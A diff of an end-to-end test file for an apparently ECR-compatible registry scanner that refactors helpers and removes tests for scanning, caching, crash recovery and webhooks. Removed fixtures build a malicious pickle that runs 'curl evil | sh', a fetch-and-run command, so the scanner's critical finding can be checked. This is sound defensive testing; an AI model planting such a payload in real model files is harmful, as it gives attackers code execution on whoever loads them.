@@ -8,115 +8,36 @@ pickle and a harmless safetensors file; the advisories are tests/fixtures/osv.
 
 from __future__ import annotations
 
-import contextlib
-import hashlib
 import json
-import os
-import signal
-import subprocess
-import sys
-import threading
-import time
-from collections.abc import Callable, Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
-import httpx
-import oras.provider
 import pytest
-from botocore.auth import SigV4Auth
-from botocore.awsrequest import AWSRequest
-from botocore.credentials import Credentials
 
 from e2e.conftest import Cli
 from support import layers as img
-from support import models, osv
+from support import osv
 from support.aws import aws_client, error_of
-from support.images import OCI_CONFIG, OCI_INDEX, OCI_MANIFEST
-from support.server import ADMIN_ACCESS_KEY_ID, ADMIN_SECRET_ACCESS_KEY, RunningServer, start_server
-from support.tools import require
+from support.images import OCI_CONFIG, OCI_MANIFEST
+from support.scans import (
+    ADMIN_KEY,
+    APP,
+    EXPECTED,
+    EXPECTED_COUNTS,
+    OTHER_APP,
+    all_findings,
+    attributes,
+    aws_cli,
+    finished_scan,
+    layout,
+    push,
+    put_blob,
+    scan_events,
+    signed,
+)
+from support.server import RunningServer
 
 pytestmark = pytest.mark.e2e
-
-ADMIN_KEY = (ADMIN_ACCESS_KEY_ID, ADMIN_SECRET_ACCESS_KEY)
-
-BASE = img.layer({"etc/os-release": img.DEBIAN_OS_RELEASE, "var/lib/dpkg/status": img.DPKG_STATUS})
-APP = img.layer(
-    {
-        "app/node_modules/lodash/package.json": b'{"name": "lodash", "version": "4.17.20"}',
-        "app/models/classifier.pkl": models.call("posix", "system", "curl evil | sh"),
-        "app/models/weights.safetensors": models.safetensors({"w": ("F32", [2], (0, 8))}, 8),
-    },
-    compression="zstd",
-)
-OTHER_APP = img.layer({"srv/readme.txt": b"another application on the same base\n"})
-
-EXPECTED = {
-    # (name, severity, package_name, package_version)
-    ("CVE-2024-2961", "HIGH", "libc6", "2.36-9+deb12u4"),
-    ("CVE-2023-5678", "LOW", "libssl3", "3.0.11-1~deb12u2"),
-    ("CVE-2022-3715", "INFORMATIONAL", "bash", "5.2.15-2+b2"),
-    ("CVE-2023-48795", "MEDIUM", "openssh-client", "1:9.2p1-2+deb12u2"),
-    ("CVE-2021-23337", "HIGH", "lodash", "4.17.20"),
-    ("pickle-code-execution", "CRITICAL", None, None),
-}
-EXPECTED_COUNTS = {"CRITICAL": 1, "HIGH": 2, "INFORMATIONAL": 1, "LOW": 1, "MEDIUM": 1}
-
-
-def layout(directory: Path, app: bytes) -> Path:
-    img.write_layout(directory, [(BASE, img.media_type("gzip")), (app, img.media_type("zstd"))], tag="v1")
-    return directory
-
-
-def push(skopeo: Cli, server: RunningServer, source: Path, target: str) -> None:
-    skopeo.run(
-        "copy", "--dest-tls-verify=false", "--dest-creds", f"{server.user}:{server.password}",
-        f"oci:{source}:v1", f"docker://{server.registry}/{target}",
-    )  # fmt: skip
-
-
-def wait_for(check: Callable[[], Any], timeout: float = 90) -> Any:
-    deadline = time.monotonic() + timeout
-    while True:
-        result = check()
-        if result is not None:
-            return result
-        if time.monotonic() > deadline:
-            raise AssertionError("timed out")
-        time.sleep(0.2)
-
-
-def finished_scan(ecr: Any, repository: str, tag: str, **extra: Any) -> dict[str, Any]:
-    def check() -> dict[str, Any] | None:
-        try:
-            response: dict[str, Any] = ecr.describe_image_scan_findings(
-                repositoryName=repository, imageId={"imageTag": tag}, **extra
-            )
-        except ecr.exceptions.ScanNotFoundException:
-            return None
-        return None if response["imageScanStatus"]["status"] in ("PENDING", "IN_PROGRESS") else response
-
-    return dict(wait_for(check))
-
-
-def all_findings(ecr: Any, repository: str, tag: str, key: str, page: int) -> list[dict[str, Any]]:
-    found: list[dict[str, Any]] = []
-    extra: dict[str, Any] = {"maxResults": page}
-    while True:
-        response = finished_scan(ecr, repository, tag, **extra)
-        found += response["imageScanFindings"][key]
-        if "nextToken" not in response:
-            return found
-        extra["nextToken"] = response["nextToken"]
-
-
-def attributes(finding: dict[str, Any]) -> dict[str, str]:
-    return {a["key"]: a["value"] for a in finding["attributes"]}
-
-
-def scan_events(server: RunningServer, event_type: str = "scan.complete") -> list[dict[str, Any]]:
-    return list(server.cli_json("events", "list", "--type", event_type, "--output", "json")["events"])
 
 
 @pytest.fixture
@@ -204,29 +125,6 @@ def test_basic_findings_of_an_image_pushed_with_skopeo(
     assert "ecr:DescribeImageScanFindings" in denied.json()["error"]["message"]
 
 
-def aws_cli(server: RunningServer, home: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
-    executable = require("awscli", "aws")
-    env = {key: value for key, value in os.environ.items() if not key.startswith("AWS_")}
-    env.update(
-        AWS_ACCESS_KEY_ID=ADMIN_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY=ADMIN_SECRET_ACCESS_KEY,
-        AWS_DEFAULT_REGION="us-east-1", AWS_DEFAULT_OUTPUT="json", AWS_PAGER="",
-        AWS_EC2_METADATA_DISABLED="true", AWS_ENDPOINT_URL_ECR=server.url,
-        AWS_CONFIG_FILE=str(home / "aws-config"), AWS_SHARED_CREDENTIALS_FILE=str(home / "aws-credentials"),
-    )  # fmt: skip
-
-    def run(*args: str) -> subprocess.CompletedProcess[str]:
-        command = [executable, *args]
-        return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)
-
-    return run
-
-
-def signed(server: RunningServer, path: str, key: tuple[str, str]) -> httpx.Response:
-    request = AWSRequest("GET", server.url + path, data=b"")
-    SigV4Auth(Credentials(*key), "strongroom", "us-east-1").add_auth(request)
-    return httpx.get(server.url + path, headers=dict(request.headers))
-
-
 def test_a_shared_base_layer_is_analysed_once_and_an_enhanced_registry_answers_enhanced(
     server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
 ) -> None:
@@ -276,7 +174,7 @@ def test_a_shared_base_layer_is_analysed_once_and_an_enhanced_registry_answers_e
     assert lodash["resources"][0]["details"]["awsEcrContainerImage"]["repositoryName"] == "ml/first"
 
 
-def test_start_image_scan_once_a_day_keeps_first_seen(
+def test_start_image_scan_is_allowed_once_a_day(
     server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
 ) -> None:
     ecr.put_registry_scanning_configuration(scanType="ENHANCED", rules=[])
@@ -327,176 +225,6 @@ def test_start_image_scan_once_a_day_keeps_first_seen(
         assert (code, status) == ("InvalidParameterException", 400), bad
 
 
-def test_a_model_pushed_with_oras_gets_a_critical_finding_for_its_malicious_pickle(
-    server: RunningServer, ecr: Any, tmp_path: Path
-) -> None:
-    rules = [{"filter": "models/*", "filterType": "WILDCARD"}]
-    ecr.put_registry_scanning_configuration(
-        scanType="BASIC", rules=[{"scanFrequency": "SCAN_ON_PUSH", "repositoryFilters": rules}]
-    )
-    files = tmp_path / "model"
-    files.mkdir()
-    (files / "classifier.pkl").write_bytes(models.call("os", "system", "curl evil | sh"))
-    (files / "weights.safetensors").write_bytes(models.safetensors({"w": ("F32", [2], (0, 8))}, 8))
-    registry = oras.provider.Registry(hostname=server.registry, insecure=True, auth_backend="basic")
-    registry.login(
-        server.user, server.password, hostname=server.registry, config_path=str(tmp_path / "config.json")
-    )
-    try:
-        # oras-py pushes each file as a layer of its default type, application/vnd.oci.image.layer.v1.tar.
-        response = registry.push(
-            f"{server.registry}/models/classifier:v1",
-            files=[str(files / "classifier.pkl"), str(files / "weights.safetensors")],
-            disable_path_validation=True,
-            quiet=True,
-        )
-        assert response.status_code == 201
-    finally:
-        registry.session.close()
-
-    response = finished_scan(ecr, "models/classifier", "v1")
-    assert response["imageScanStatus"]["status"] == "COMPLETE"
-    [found] = response["imageScanFindings"]["findings"]
-    assert (found["name"], found["severity"], found["description"]) == (
-        "pickle-code-execution", "CRITICAL", "imports os.system"
-    )  # fmt: skip
-    assert attributes(found)["file_path"].endswith("classifier.pkl")
-    assert response["imageScanFindings"]["findingSeverityCounts"] == {"CRITICAL": 1}
-
-
-def put_blob(client: httpx.Client, name: str, data: bytes) -> dict[str, Any]:
-    digest = "sha256:" + hashlib.sha256(data).hexdigest()
-    started = client.post(f"/v2/{name}/blobs/uploads/")
-    done = client.put(started.headers["location"], params={"digest": digest}, content=data)
-    assert done.status_code == 201, done.text
-    return {"digest": digest, "size": len(data)}
-
-
-@pytest.fixture
-def one_process(tmp_path: Path) -> Iterator[RunningServer]:
-    """A server of one process: its job runner scans several images at once."""
-    running = start_server(tmp_path / "one", args=["--workers", "1"])
-    try:
-        running.cli("vulndb", "import", str(osv.RECORDS_DIR))
-        yield running
-    finally:
-        running.stop()
-
-
-def test_an_index_is_scanned_per_platform_and_its_shared_layers_analysed_once(
-    one_process: RunningServer,
-) -> None:
-    server, ecr = one_process, aws_client(one_process, "ecr")
-    ecr.create_repository(repositoryName="multi/app", imageScanningConfiguration={"scanOnPush": True})
-    name = "multi/app"
-    descriptors = []
-    with server.client() as client:
-        layers = [
-            {"mediaType": img.media_type("gzip"), **put_blob(client, name, BASE)},
-            {"mediaType": img.media_type("zstd"), **put_blob(client, name, APP)},
-        ]
-        for architecture in ("amd64", "arm64"):
-            config = json.dumps({"architecture": architecture, "os": "linux", "rootfs": {"type": "layers"}})
-            manifest = json.dumps(
-                {
-                    "schemaVersion": 2,
-                    "mediaType": OCI_MANIFEST,
-                    "config": {"mediaType": OCI_CONFIG, **put_blob(client, name, config.encode())},
-                    "layers": layers,
-                }
-            ).encode()
-            digest = "sha256:" + hashlib.sha256(manifest).hexdigest()
-            stored = client.put(
-                f"/v2/{name}/manifests/{digest}", content=manifest, headers={"Content-Type": OCI_MANIFEST}
-            )
-            assert stored.status_code == 201, stored.text
-            platform = {"os": "linux", "architecture": architecture}
-            descriptors.append(
-                {"mediaType": OCI_MANIFEST, "digest": digest, "size": len(manifest), "platform": platform}
-            )
-        index = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": descriptors})
-        stored = client.put(f"/v2/{name}/manifests/v1", content=index, headers={"Content-Type": OCI_INDEX})
-        assert stored.status_code == 201, stored.text
-
-    found = all_findings(ecr, name, "v1", "findings", page=100)
-    by_platform: dict[str, set[tuple[str, str]]] = {}
-    for finding in found:
-        by_platform.setdefault(attributes(finding)["platform"], set()).add(
-            (finding["name"], finding["severity"])
-        )
-    expected = {(finding_name, severity) for finding_name, severity, _, _ in EXPECTED}
-    assert by_platform == {"linux/amd64": expected, "linux/arm64": expected}
-    # Three scans (each platform's image as pushed, then the index with both platforms)
-    # ask for the same two layers eight times: each layer was analysed by one scan, and
-    # the other six answers came from the cache (or from waiting for that scan).
-    events = scan_events(server)
-    assert len(events) == 3
-    assert {event["data"]["scan-status"] for event in events} == {"COMPLETE"}
-    assert sum(event["data"]["layers-analysed"] for event in events) == 2
-    assert sum(event["data"]["layers-from-cache"] for event in events) == 6
-
-
-@contextlib.contextmanager
-def job_runner(server: RunningServer, name: str) -> Iterator[subprocess.Popen[bytes]]:
-    """``strongroom jobs run`` on the server's store, as its own process group."""
-    env = {**server.env, "STRONGROOM_DATA_DIR": str(server.data_dir)}
-    with (server.data_dir.parent / f"{name}.log").open("ab") as output:
-        process = subprocess.Popen(
-            [sys.executable, "-m", "strongroom", "jobs", "run"],
-            env=env, stdout=output, stderr=subprocess.STDOUT, start_new_session=True,
-        )  # fmt: skip
-    try:
-        yield process
-    finally:
-        with contextlib.suppress(ProcessLookupError):
-            os.killpg(process.pid, signal.SIGKILL)
-        process.wait(timeout=30)
-
-
-def test_a_scan_survives_sigkill_of_the_server_and_of_the_runner_scanning(
-    tmp_path: Path, skopeo: Cli
-) -> None:
-    env = {"STRONGROOM_JOB_LEASE_SECONDS": "2", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
-    server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
-    try:
-        server.cli("vulndb", "import", str(osv.RECORDS_DIR))
-        ecr = aws_client(server, "ecr")
-        ecr.create_repository(repositoryName="crash/app", imageScanningConfiguration={"scanOnPush": True})
-        # A third layer big enough that the scan takes a moment to read it.
-        filler = img.layer({"srv/zeros": bytes(192 * 1024 * 1024)})
-        source = tmp_path / "app"
-        img.write_layout(
-            source,
-            [(BASE, img.media_type("gzip")), (APP, img.media_type("zstd")), (filler, img.media_type("gzip"))],
-            tag="v1",
-        )
-        push(skopeo, server, source, "crash/app:v1")
-        pending = ecr.describe_image_scan_findings(repositoryName="crash/app", imageId={"imageTag": "v1"})
-        assert pending["imageScanStatus"]["status"] == "PENDING"
-        server.kill()  # the push's scan is only in the queue
-
-        server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
-        ecr = aws_client(server, "ecr")
-
-        def status() -> str:
-            response = ecr.describe_image_scan_findings(
-                repositoryName="crash/app", imageId={"imageTag": "v1"}
-            )
-            return str(response["imageScanStatus"]["status"])
-
-        with job_runner(server, "first-runner") as first:
-            wait_for(lambda: True if status() == "IN_PROGRESS" else None, timeout=60)
-            os.killpg(first.pid, signal.SIGKILL)  # mid-scan
-        assert status() == "IN_PROGRESS"
-
-        with job_runner(server, "second-runner"):
-            response = finished_scan(ecr, "crash/app", "v1")
-        assert response["imageScanStatus"]["status"] == "COMPLETE"
-        assert response["imageScanFindings"]["findingSeverityCounts"] == EXPECTED_COUNTS
-    finally:
-        server.stop()
-
-
 def test_an_image_without_layers_is_unsupported_and_a_lost_blob_fails_the_scan(
     server: RunningServer, ecr: Any
 ) -> None:
@@ -533,57 +261,3 @@ def test_an_image_without_layers_is_unsupported_and_a_lost_blob_fails_the_scan(
         for detail in ecr.describe_images(repositoryName="odd/app")["imageDetails"]
     }
     assert statuses == {"empty": "UNSUPPORTED_IMAGE", "lost": "FAILED"}
-
-
-def test_scan_events_reach_a_webhook(tmp_path: Path) -> None:
-    received: list[dict[str, Any]] = []
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_POST(self) -> None:
-            received.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
-            self.send_response(204)
-            self.send_header("content-length", "0")
-            self.end_headers()
-
-        def log_message(self, *args: Any) -> None:
-            pass
-
-    receiver = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    threading.Thread(target=receiver.serve_forever, daemon=True).start()
-    env = {"STRONGROOM_WEBHOOK_ALLOWED_NETWORKS": "127.0.0.0/8", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
-    server = start_server(tmp_path / "data", env=env)
-    try:
-        server.cli("vulndb", "import", str(osv.RECORDS_DIR))
-        url = f"http://127.0.0.1:{receiver.server_address[1]}/hook"
-        server.cli("webhook", "create", "--url", url, "--events", "scan.complete,scan.finding.new")
-        aws_client(server, "ecr").create_repository(
-            repositoryName="hooked/app", imageScanningConfiguration={"scanOnPush": True}
-        )
-        with server.client() as client:
-            config = {"mediaType": OCI_CONFIG, **put_blob(client, "hooked/app", b'{"os": "linux"}')}
-            layers = [
-                {"mediaType": img.media_type("gzip"), **put_blob(client, "hooked/app", BASE)},
-                {"mediaType": img.media_type("zstd"), **put_blob(client, "hooked/app", APP)},
-            ]
-            manifest = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": config, "layers": layers}
-            stored = client.put(
-                "/v2/hooked/app/manifests/v1",
-                content=json.dumps(manifest),
-                headers={"Content-Type": OCI_MANIFEST},
-            )
-            assert stored.status_code == 201, stored.text
-        wait_for(lambda: True if len(received) >= 2 else None, timeout=90)
-    finally:
-        server.stop()
-        receiver.shutdown()
-        receiver.server_close()
-
-    by_type = {event["type"]: event for event in received}
-    assert set(by_type) == {"io.strongroom.scan.complete", "io.strongroom.scan.finding.new"}
-    complete = by_type["io.strongroom.scan.complete"]["data"]
-    assert (complete["scan-status"], complete["repository-name"], complete["image-tags"]) == (
-        "COMPLETE", "hooked/app", ["v1"]
-    )  # fmt: skip
-    assert complete["finding-severity-counts"] == EXPECTED_COUNTS
-    new = by_type["io.strongroom.scan.finding.new"]["data"]
-    assert {(f["name"], f["severity"]) for f in new["findings"]} == {(n, s) for n, s, _, _ in EXPECTED}
